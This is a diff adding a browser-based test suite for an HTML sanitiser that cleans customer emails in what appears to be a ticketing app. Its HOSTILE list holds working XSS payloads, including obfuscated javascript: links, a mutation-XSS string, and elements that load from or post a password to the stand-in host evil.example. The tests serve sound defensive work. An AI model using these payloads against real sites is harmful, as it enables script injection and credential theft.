@@ -1,0 +1,129 @@
+// @vitest-environment node
+import path from 'node:path';
+import { chromium, type Browser, type Page } from '@playwright/test';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { build } from 'vite';
+import type { SafeHtml } from '#renderer/features/ticket/sanitise-html.ts';
+import { chromiumPath, sandboxFlags } from '#tests/support/chromium.ts';
+
+declare function sanitiseHtml(hostile: string): SafeHtml;
+declare function letterPage(safeHtml: string): string;
+
+/** Each must come out without anything that acts, asks or loads. */
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><image href="https://evil.example/x"/><a xlink:href="javascript:alert(1)">x</a></svg>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="https://evil.example"></object><embed src="https://evil.example">',
+  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<style>body{background:url(https://evil.example/x)}</style>',
+  '<div style="background:url(https://evil.example/x)">x</div>',
+  '<div style="background:u\\72l(https://evil.example/x)">x</div>',
+  '<div style="background-image:image-set(\'https://evil.example/x\' 1x)">x</div>',
+  '<table background="https://evil.example/x"><tr><td>x</td></tr></table>',
+  '<img srcset="https://evil.example/x 2x" src="https://evil.example/y">',
+  '<video src="https://evil.example/x" poster="https://evil.example/y"></video>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;"></mglyph></table></mtext></math>',
+  '<a href="https://good.example" onclick="alert(1)" target="_top" ping="https://evil.example">x</a>',
+  '<template><img src=x onerror=alert(1)></template>',
+  '<p id="root" name="desk" class="x" contenteditable autofocus>x</p>',
+];
+
+/*
+ * In a real browser: the parser that an attacker meets, and the frame that stands behind the sanitiser.
+ */
+describe('customer HTML is made harmless', () => {
+  let browser: Browser;
+  let page: Page;
+  const asked: string[] = [];
+
+  beforeAll(async () => {
+    const bundled = await build({
+      configFile: false,
+      logLevel: 'error',
+      build: {
+        write: false,
+        lib: {
+          entry: path.join(import.meta.dirname, '../support/letter-entry.ts'),
+          formats: ['iife'],
+          name: 'letter',
+        },
+      },
+    });
+    const output = Array.isArray(bundled) ? bundled[0] : bundled;
+    if (output === undefined || !('output' in output)) throw new Error('The sanitiser was not bundled');
+    browser = await chromium.launch({ executablePath: chromiumPath(), args: [...sandboxFlags()] });
+    page = await browser.newPage();
+    page.on('dialog', (dialog) => {
+      asked.push(`dialog ${dialog.message()}`);
+      void dialog.dismiss();
+    });
+    // What gets past the page's own policies and would go out to the network.
+    await page.route('**', (route) => {
+      asked.push(route.request().url());
+      return route.abort();
+    });
+    await page.addScriptTag({ content: output.output[0].code });
+  }, 120_000);
+  afterAll(() => browser.close());
+
+  const sanitise = (hostile: string) => page.evaluate((html) => sanitiseHtml(html), hostile);
+
+  test.each(HOSTILE)('%s', async (hostile) => {
+    const { html } = await sanitise(`<p>before</p>${hostile}<p>after</p>`);
+    expect(html).not.toMatch(
+      /<(script|svg|math|iframe|object|embed|form|input|button|meta|base|link|style|video|template)\b/i,
+    );
+    expect(html).not.toMatch(/\son\w+\s*=/i);
+    expect(html).not.toMatch(
+      /\s(href|src|srcset|background|poster|action|target|ping|id|name|class|contenteditable)\s*=\s*"?(?!address")/i,
+    );
+    expect(html).not.toMatch(/evil\.example|javascript:/i);
+    expect(html).toContain('before');
+    expect(html).toContain('after');
+  });
+
+  test('in its frame even an unsanitised letter runs, asks and loads nothing', async () => {
+    asked.length = 0;
+    await page.evaluate(
+      async (html) => {
+        const frame = document.createElement('iframe');
+        frame.setAttribute('sandbox', 'allow-same-origin');
+        frame.srcdoc = letterPage(html);
+        const loaded = new Promise((resolve) => frame.addEventListener('load', resolve));
+        document.body.append(frame);
+        await loaded;
+        frame.contentDocument?.querySelector('form')?.requestSubmit();
+      },
+      HOSTILE.filter((each) => !each.includes('refresh')).join('\n'),
+    );
+    expect(asked).toEqual([]);
+  });
+
+  test('remote pictures are counted, pictures inside the letter stay', async () => {
+    const inline = 'data:image/png;base64,iVBORw0KGgo=';
+    const { html, blocked } = await sanitise(
+      `<img src="https://t.example/a.gif"><img src="//t.example/b.png" alt="logo"><img src="${inline}"><img src="data:image/svg+xml,x">`,
+    );
+    expect(blocked).toBe(3);
+    expect(html).toContain(inline);
+    expect(html).toContain('logo');
+    expect(html).not.toContain('t.example');
+  });
+
+  test('a link keeps its true address as data and shows it where the text says something else', async () => {
+    const { html } = await sanitise('<a href="https://evil.example/login">https://bank.example</a>');
+    expect(html).toContain('data-address="https://evil.example/login"');
+    expect(html).toContain('(evil.example)');
+    expect(html).not.toContain('href=');
+  });
+});
